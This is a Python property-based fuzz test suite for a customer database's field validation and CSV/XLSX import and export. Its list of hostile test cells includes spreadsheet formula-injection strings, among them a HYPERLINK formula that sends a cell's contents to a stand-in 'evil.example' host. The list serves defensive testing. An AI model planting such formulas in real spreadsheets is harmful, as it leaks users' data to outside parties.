"""Properties (hypothesis) of values, import and export — kept fixed by fuzzing:

* every field of the schema: any input → a value or a FieldError, never another
  exception; a value is clean (no control character, cleaning it again changes nothing);
* import: random and hostile cells in CSV and XLSX → each bad row rejected with a
  reason, each good row imported with exactly the values validation gives, never an
  exception (SQLite and PostgreSQL);
* export → import of random valid customers gives every value back (CSV and XLSX).
"""
from __future__ import annotations

import csv
import datetime as dt
import re
import uuid
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from kehu.models.exporter import csv_unquote, export, set_text
from kehu.models.import_values import match_choice
from kehu.models.importer import _cell, auto_mapping, open_source, run_import
from kehu.models.schema import load_default_schema, value_limit
from kehu.models.validate import CONTROL_RE, FieldError, clean

pytestmark = pytest.mark.fuzz

S = load_default_schema()

#: Cells that once stopped a whole import or crashed a save (issue 14), and relatives.
NASTY = ["1e30", "-1e30", "1e40", "1e308", "-1e308", "1e-999999999", "9e999999999", "NaN", "-inf",
         "sNaN", "99999999999999999999999", "9223372036854775808", "-9223372036854775809",
         "9223372036854775807", "http://[bad", "https://[::1", "张\x00三", "\x00", "a\x1b[31m",
         "\x7f", "北\x85京", "line\nbreak", "tab\there", "\r\n", "=SUM(A1:A2)", "'=SUM(A1)",
         '=HYPERLINK("http://evil.example/?x="&B2,"click")', "+86 138 0013 8000", "-5", "@x",
         "'", "''", "1,5万", "2亿", "$3k", "¥1,234.50", "0x1F", "1_000", "٣", "１２３", "1e", ".",
         "9999-12-31", "0001-01-01", "2023-02-30", "10000-01-01", "今天", "now", "2024年2月29日",
         "true", "否", "✓", "a" * 400, "1" * 300, "+" * 30, "@@", "a@b", "a@[bad", "x@例子.中国",
         "例子.中国", "ftp://x.y", "http://x", "A 重点", "vip，老客户；潜力", "\ufeff", "\u200b",
         "\u3000全角空格\u3000", "𠮷", "\ud800"]

number_like = st.builds(lambda sign, digits, frac, exp: f"{sign}{digits}{frac}{exp}",
                        st.sampled_from(["", "-", "+"]), st.text("0123456789", min_size=1, max_size=25),
                        st.sampled_from(["", ".", ".5", ".125", ".999"]),
                        st.sampled_from(["", "e5", "e-5", "e30", "E308", "e999999999", "万", "亿", "k"]))
formula_like = st.builds(lambda prefix, rest: prefix + rest,
                         st.sampled_from(["=", "+", "-", "@", "'", "'=", "''+", "\t", "\r", " "]),
                         st.text(max_size=20))
texts = st.one_of(st.text(max_size=40), st.sampled_from(NASTY), number_like, formula_like,
                  st.from_regex(r"\d{4}[-/.]\d{1,2}[-/.]\d{1,2}", fullmatch=True))
#: What the API and the form may pass besides text.
others = st.one_of(st.integers(), st.integers(min_value=2 ** 62, max_value=2 ** 80),
                   st.floats(allow_nan=True, allow_infinity=True), st.booleans(),
                   st.decimals(allow_nan=True, allow_infinity=True), st.dates(), st.datetimes(),
                   st.lists(st.text(max_size=5), max_size=3))

SURROGATE_RE = re.compile("[\ud800-\udfff]")
#: The types whose cleaned value keeps a line break / a tab.
BREAKS = {"longtext": "\t\n"}


def assert_clean(spec, value):
    if isinstance(value, str):
        allowed = BREAKS.get(spec.type, "")
        assert not [c for c in CONTROL_RE.findall(value) if c not in allowed], (spec.key, value)
        assert value == value.strip()
    assert clean(spec, value) == value  # cleaning a cleaned value changes nothing


@pytest.mark.parametrize("key", S.keys)
@given(raw=st.one_of(texts, others))
def test_every_field_takes_any_input_to_a_value_or_a_field_error(key, raw):
    spec = S[key]
    try:
        value = clean(spec, raw)
    except FieldError as exc:
        assert exc.key == key and str(exc).startswith(spec.label())
        return
    if value is not None:
        assert_clean(spec, value)


def few(store, postgres: int, sqlite: int) -> int:
    """Examples for a property that writes a file and a database per example: the ci
    profile's share (60 → ``sqlite``), fewer on PostgreSQL; the fuzz profile scales them."""
    scale = settings.default.max_examples / 60
    return max(3, round((postgres if store.is_postgres else sqlite) * scale))


# --- import ------------------------------------------------------------------------------

IMPORT_FIELDS = ["name", "mobile", "email", "birthday", "age", "headcount", "registered_capital",
                 "satisfaction", "website", "notes", "tags", "grade", "marketing_opt_in", "city"]
GOOD = {"name": ["张三", "Ada Lovelace", "=SUM(A1)", "-负号公司"], "mobile": ["13800138000", "+1 650 253 0000"],
        "email": ["a@example.com"], "birthday": ["1980-05-17"], "age": ["44", "0"],
        "headcount": ["9223372036854775807", "12"], "registered_capital": ["1,234.50", "9999999999999.99"],
        "satisfaction": ["9.5"], "website": ["example.com"], "notes": ["第一行\n第二行", "@note"],
        "tags": ["vip,老客户"], "grade": ["A", "B major"], "marketing_opt_in": ["yes", "否"],
        "city": ["北京", "+city"]}
cell_values = st.one_of(st.just(""), texts)
xlsx_values = st.one_of(st.just(None), texts, st.integers(min_value=-(2 ** 63), max_value=2 ** 63 - 1),
                        st.floats(allow_nan=False, allow_infinity=False), st.booleans(),
                        st.dates(min_value=dt.date(1900, 3, 1)).map(  # XLSX has datetimes only
                            lambda d: dt.datetime.combine(d, dt.time())))


def rows_strategy(cells):
    """Rows of cells: random ones, hostile ones and good ones mixed."""
    good_row = st.fixed_dictionaries({k: st.sampled_from(v) for k, v in GOOD.items()}).map(
        lambda d: [d[k] for k in IMPORT_FIELDS])
    random_row = st.lists(cells, min_size=len(IMPORT_FIELDS), max_size=len(IMPORT_FIELDS))
    mixed = st.tuples(good_row, st.dictionaries(st.integers(0, len(IMPORT_FIELDS) - 1), cells,
                                                max_size=2)).map(
        lambda t: [t[1].get(i, v) for i, v in enumerate(t[0])])
    return st.lists(st.one_of(good_row, random_row, mixed), min_size=1, max_size=6)


def expected_outcome(cells, unquote):
    """What validation says a row gives: ('empty'|'rejected'|'created', values)."""
    values, bad = {}, False
    for key, raw in zip(IMPORT_FIELDS, cells):
        raw = _cell(raw)
        if raw is None or raw == "":
            continue
        if unquote and isinstance(raw, str) and raw[:1] == "'":
            raw = csv_unquote(raw)
        try:
            value = clean(S[key].__class__(**{**S[key].__dict__, "required": False}), raw)
        except FieldError:
            if S[key].type == "choice":   # no choice: the row is kept, the field left empty or
                value = match_choice(S[key], raw)   # matched leniently (import_values)
                if value is not None:
                    values[key] = value
                continue
            bad = True
            continue
        if value is not None:
            values[key] = value
    if bad:
        return "rejected", None
    if not values:
        return "empty", None
    return ("rejected", None) if "name" not in values else ("created", values)


def write_file(path, rows):
    headers = [S[k].label() for k in IMPORT_FIELDS]
    if path.suffix == ".csv":
        with open(path, "w", encoding="utf-8", newline="") as fh:
            csv.writer(fh).writerows([headers, *rows])
        return
    wb = openpyxl.Workbook()
    sheet = wb.active
    for r, row in enumerate([headers, *rows], start=1):
        for c, value in enumerate(row, start=1):
            set_text(sheet.cell(row=r, column=c), value)  # text as text, as a user's file has it
    wb.save(path)


def check_import(store, tmp_path, suffix, rows):
    path = tmp_path / f"{uuid.uuid4().hex}{suffix}"
    unwritable = CONTROL_RE if suffix == ".xlsx" else SURROGATE_RE  # what a file cannot hold
    rows = [[unwritable.sub("", v) if isinstance(v, str) else v for v in row] for row in rows]
    write_file(path, rows)
    if suffix == ".xlsx":  # the cells as the file holds them (openpyxl writes 16 digits of a float)
        book = openpyxl.load_workbook(path, read_only=True, data_only=True)
        rows = [list(r) + [None] * (len(IMPORT_FIELDS) - len(r))
                for r in book.active.iter_rows(min_row=2, values_only=True)]
        book.close()
    source = open_source(path)
    result = run_import(store, source, auto_mapping(store.schema, source),
                        report_path=tmp_path / f"{path.stem}-rejected.csv")
    outcomes = [expected_outcome(row, suffix == ".csv") for row in rows]
    kinds = [kind for kind, _ in outcomes]
    assert (result.created, result.rejected, result.empty) == (
        kinds.count("created"), kinds.count("rejected"), kinds.count("empty")), (kinds, result.problems)
    rejected_rows = {p.row for p in result.problems}
    assert rejected_rows == {i + 2 for i, kind in enumerate(kinds) if kind == "rejected"}
    assert all(p.reason for p in result.problems)
    C = store.Customer
    created = list(store.customers().where(C.import_batch == result.batch_id).order_by(C.id))
    wanted = [values for kind, values in outcomes if kind == "created"]
    assert [{k: getattr(c, k) for k in v} for c, v in zip(created, wanted)] == wanted


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_import_of_random_and_hostile_cells_rejects_bad_rows_and_keeps_good_ones(
        store, tmp_path, suffix):
    cells = cell_values if suffix == ".csv" else xlsx_values

    @given(rows=rows_strategy(cells))
    # an XLSX example costs ~1 s (openpyxl writes and reads a workbook): fewer of them
    @settings(max_examples=few(store, 12, 40) if suffix == ".csv" else few(store, 4, 10),
              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
    def prop(rows):
        check_import(store, tmp_path, suffix, rows)

    prop()


# --- export → import ---------------------------------------------------------------

def _money(spec):
    limit = value_limit(spec.decimals)
    return st.decimals(min_value=max(Decimal(str(spec.min)) if spec.min is not None else -limit, -limit),
                       max_value=min(Decimal(str(spec.max)) if spec.max is not None else limit, limit),
                       places=spec.decimals, allow_nan=False, allow_infinity=False)


def value_strategy(spec):
    """Raw input for a field: mostly valid, some of it kehu will refuse (then left empty)."""
    t = spec.type
    if t == "integer":
        return st.integers(int(spec.min) if spec.min is not None else -(2 ** 63),
                           int(spec.max) if spec.max is not None else 2 ** 63 - 1)
    if t in ("money", "decimal"):
        return _money(spec)
    if t == "date":
        return st.dates(min_value=dt.date(1900, 3, 1))
    if t == "datetime":
        return st.datetimes(min_value=dt.datetime(1900, 3, 1)).map(lambda d: d.replace(microsecond=0))
    if t == "boolean":
        return st.booleans()
    if t == "choice":
        return st.sampled_from([c.value for c in spec.choices])
    if t == "tags":
        words = [c.value for c in spec.choices] or ["vip", "老客户", "=x", "+y", "'z", "-w"]
        return st.lists(st.sampled_from(words), max_size=3).map(",".join)
    if t == "phone":
        return st.sampled_from(["+8613800138000", "+8675588886666", "+16502530000",
                                "+442079460958", "+861012345678"])
    if t == "email":
        return st.sampled_from(["a@example.com", "=cmd@example.com", "-x@qq.com", "张三@例子.中国"])
    if t == "url":
        return st.sampled_from(["https://example.com", "http://x.example/?a=1&b=-2", "example.com/=x"])
    return texts


customers = st.fixed_dictionaries({s.key: st.one_of(st.none(), value_strategy(s))
                                   for s in S.fields if not s.computed})


def valid(data):
    """``data`` with each value validation refuses left out; a name always."""
    out = {}
    for key, raw in data.items():
        try:
            out[key] = clean(S[key], raw)
        except FieldError:
            out[key] = None
    out["name"] = out.get("name") or "客户"
    return out


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_gives_random_customers_back_exactly(store, tmp_path, suffix):
    C = store.Customer
    keys = [s.key for s in store.schema.fields if not s.computed]

    @given(people=st.lists(customers, min_size=1, max_size=4))
    @settings(max_examples=few(store, 8, 30) if suffix == ".csv" else few(store, 3, 8),
              suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
    def prop(people):
        if suffix == ".xlsx":  # what XLSX cannot hold, validation refuses: nothing to lose here
            people = [{k: CONTROL_RE.sub("", v) if isinstance(v, str) else v for k, v in p.items()}
                      for p in people]
        C.delete().execute()
        originals = [store.create_customer(valid(p)) for p in people]
        path = tmp_path / f"{uuid.uuid4().hex}{suffix}"
        assert export(store, path).rows == len(originals)
        source = open_source(path)
        result = run_import(store, source, auto_mapping(store.schema, source),
                            report_path=tmp_path / "rejected.csv")
        assert (result.created, result.rejected) == (len(originals), 0), result.problems
        copies = list(store.customers().where(C.import_batch == result.batch_id).order_by(C.id))
        for original, copy in zip(originals, copies):
            original = store.get_customer(original.id)
            assert {k: getattr(copy, k) for k in keys} == {k: getattr(original, k) for k in keys}

    prop()
